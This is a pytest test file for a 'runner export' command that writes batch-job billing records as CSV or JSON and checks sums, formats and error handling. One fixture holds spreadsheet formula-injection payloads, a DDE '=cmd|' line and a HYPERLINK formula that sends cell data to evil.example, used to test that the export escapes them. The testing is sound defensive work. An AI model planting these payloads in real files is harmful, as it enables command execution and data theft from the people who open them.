"""`runner export` as a bookkeeper or a script meets it."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest


def table(desk, *words: object) -> list[dict[str, str]]:
    """The rows of an export, read as a spreadsheet would."""
    ended = desk("export", "batch.yaml", *words)
    assert (ended.returncode, ended.stderr) == (0, "")
    return list(csv.DictReader(io.StringIO(ended.stdout, newline="")))


def total(rows: list[dict[str, str]]) -> Decimal:
    return sum((Decimal(row["spent_usd"]) for row in rows if row["spent_usd"]), Decimal(0))


def spent(desk) -> Decimal:
    return Decimal(str(json.loads(desk("status", "batch.yaml", "--json").stdout)["spent_usd"]))


def tree(desk) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in (desk.folder / "out").rglob("*") if path.is_file()}


@pytest.mark.slow
def test_a_folder_with_a_history_sums_to_its_bill(desk, serve):
    """Done, failed, refused, unknown, done over, renamed, edited back: a row each, and the sum is what status says."""
    served = serve("--fault", "job fail match='picture 1'", "--fault", "submit reset when=after match='picture 2'")
    desk.base = served.base
    manifest = desk.jobs(5, concurrency=1)
    assert desk("run", manifest).returncode == 2
    assert desk("run", manifest, "--redo", "--only", "job-0").returncode in (0, 2)
    text = manifest.read_text()
    manifest.write_text(text.replace("job-3, prompt: picture 3", "job-3, prompt: another").replace("job-4", "renamed"))
    desk("run", manifest)
    manifest.write_text(text.replace("job-4", "renamed"))
    desk("run", manifest)
    before = tree(desk)
    rows = table(desk)
    assert tree(desk) == before
    assert total(rows) == spent(desk) > 0
    told = [(row["id"], row["purchase"], row["state"], row["in_force"], row["basis"]) for row in rows]
    assert sorted(told) == [
        ("job-0", "1", "done", "false", "billed"),
        ("job-0", "2", "done", "true", "billed"),
        *[row for row in sorted(told) if row[0] == "job-1"],
        ("job-2", "1", "unknown", "false", "reserved"),
        ("job-3", "1", "done", "false", "billed"),
        ("job-3", "2", "done", "false", "billed"),
        ("job-3", "3", "done", "true", "free"),
        ("renamed", "1", "done", "true", "billed"),
    ]
    assert {row[2] for row in told if row[0] == "job-1"} == {"failed"}
    at = {(row["id"], row["purchase"]): row for row in rows}
    assert at["job-0", "1"]["path"] == ".replaced/job-0/1/job-0.png"
    assert at["job-3", "3"]["restored_from"] == "1"
    for row in rows:
        if row["path"] and (row["in_force"] == "true" or row["id"] == "job-0"):
            assert len((desk.folder / "out" / row["path"]).read_bytes()) == int(row["bytes"])


def test_it_works_while_a_run_goes_on(desk, serve):
    """No lock is needed; what is in flight counts at its reserve, as status has it."""
    desk.base = serve("--seconds", "30").base
    process = desk.start("run", desk.jobs(3))
    desk.wait_for(submitted=3)
    rows = table(desk)
    assert [(row["state"], row["basis"], row["path"]) for row in rows] == [("submitted", "reserved", "")] * 3
    assert total(rows) == spent(desk)
    process.kill()


HOSTILE = {
    "id": "=cmd|' !A0",
    "prompt": '=HYPERLINK("https://evil.example/?"&A1)\n=1+1;@SUM(A1)',
    "model": "＝1+1",
    "api": "\t=1",
    "manifest": "-1+1",
}


@pytest.fixture
def hostile(desk):
    """A results manifest from elsewhere."""
    desk.write("jobs: []", "batch.yaml")
    (desk.folder / "out").mkdir()
    line = {"purchase": 1, "state": "done", "at": "+now", "fingerprint": "", "file": "=x", "request_id": "-r"}
    outputs = [{"url": "u", "path": "=x.png", "sha256": "@", "bytes": -5, "media_type": "+x"}]
    record = {**line, **HOSTILE, "inputs": {"prompt": HOSTILE["prompt"], "width": 10**30}, "outputs": outputs}
    del record["prompt"]
    (desk.folder / "out/results.jsonl").write_text(json.dumps(record) + "\n")
    return desk


def test_a_results_manifest_from_elsewhere_runs_nothing_in_a_spreadsheet(hostile):
    """Every text cell that begins like a formula is marked as text; JSON has it as it is; unpriced ones are told."""
    ended = hostile("export", "out")
    (row,) = csv.DictReader(io.StringIO(ended.stdout, newline=""))
    assert not [cell for cell in row.values() if cell.lstrip().startswith(tuple("=+-@＝＋－＠"))]
    assert row["id"] == f"'{HOSTILE['id']}"
    assert row["prompt"] == "'=HYPERLINK(\"https://evil.example/?\"&A1)\n'=1+1;'@SUM(A1)"
    assert "1 purchase has neither a bill nor a known price" in ended.stderr
    (exact,) = json.loads(hostile("export", "out", "--format", "json").stdout)
    assert {name: exact[name] for name in HOSTILE} == HOSTILE


def test_the_formats_say_the_same(desk):
    """CSV, one JSON array, JSON lines; a mark for Excel on request; a choice of jobs; an empty folder has a header."""
    desk("run", desk.jobs(3), "--emulator")
    rows = table(desk)
    array = json.loads(desk("export", "out", "--format", "json").stdout)
    lines = desk("export", "out", "--format", "jsonl").stdout.splitlines()
    assert array == [json.loads(line) for line in lines]
    assert [(row["id"], row["sha256"]) for row in rows] == [(row["id"], row["sha256"]) for row in array]
    assert [row["id"] for row in table(desk, "--only", "*-1")] == ["job-1"]
    plain, marked = desk("export", "out").stdout, desk("export", "out", "--bom").stdout
    assert marked == "\ufeff" + plain
    (desk.folder / "out/results.jsonl").write_bytes(b"")
    assert desk("export", "out").stdout.startswith("id,purchase,state,")
    assert json.loads(desk("export", "out", "--format", "json").stdout) == []


def test_a_selection_adds_its_marks_and_notes_as_the_last_columns(desk):
    """By the picture's bytes; a formula in a note is text; without one the columns are as ever."""
    desk("run", desk.jobs(2), "--emulator")
    plain = table(desk)
    picture = {"id": "job-1", "sha256": plain[1]["sha256"], "mark": "reject", "reason": "flaw", "note": "=1+1"}
    (desk.folder / "selection.json").write_text(json.dumps({"version": 1, "pictures": [picture]}))
    rows = table(desk, "--selection", "selection.json")
    assert list(rows[0])[: len(plain[0])] == list(plain[0])
    assert [(row["mark"], row["reason"], row["note"]) for row in rows] == [("", "", ""), ("reject", "flaw", "'=1+1")]
    (desk.folder / "selection.json").write_text("no selection")
    refused = desk("export", "out", "--selection", "selection.json")
    assert (refused.returncode, refused.stdout) == (64, "")


@pytest.fixture
def long(desk, hostile):
    """More rows than any pipe holds."""
    template = (desk.folder / "out/results.jsonl").read_bytes()
    lines = (template.replace(b"=cmd|' !A0", b"job-%d" % number) for number in range(3000))
    (desk.folder / "out/results.jsonl").write_bytes(b"".join(lines))
    return desk


def test_a_reader_that_has_enough_ends_it_quietly(long):
    """`runner export … | head`: no traceback, no message, exit 0."""
    process = long.start("export", "out")
    assert process.stdout.readline().startswith("id,purchase")
    process.stdout.close()
    assert process.wait(60) == 0
    assert process.stderr.read() == ""


def test_a_full_disk_is_said(long):
    """The message says so, and the exit code is that of a place that cannot be written."""
    command = [sys.executable, "-m", "runner", "export", "out"]
    with Path("/dev/full").open("wb") as full:
        ended = subprocess.run(
            command, cwd=long.folder, env=long.environ, stdout=full, stderr=subprocess.PIPE, check=False
        )
    assert ended.returncode == 73
    assert b"standard output cannot be written: No space left on device" in ended.stderr
    assert b"Traceback" not in ended.stderr


def test_a_closed_standard_output_is_said(long):
    """`runner export … >&-`: a message and exit 73."""
    command = ["sh", "-c", 'exec "$@" >&-', "sh", sys.executable, "-m", "runner", "export", "out"]
    ended = subprocess.run(command, cwd=long.folder, env=long.environ, stderr=subprocess.PIPE, check=False)
    assert (ended.returncode, b"standard output is closed" in ended.stderr) == (73, True)
    assert b"Traceback" not in ended.stderr


def test_where_nothing_was_run_there_are_no_receipts(desk):
    """A folder without a results manifest: exit 64 and why. A damaged one: exit 65, nothing is guessed."""
    assert desk("export", desk.jobs(1)).returncode == 64
    (desk.folder / "out").mkdir()
    (desk.folder / "out/results.jsonl").write_bytes(b"{}\n{}\n")
    ended = desk("export", "out")
    assert (ended.returncode, ended.stdout) == (65, "")
    assert "verify --repair-log" in ended.stderr
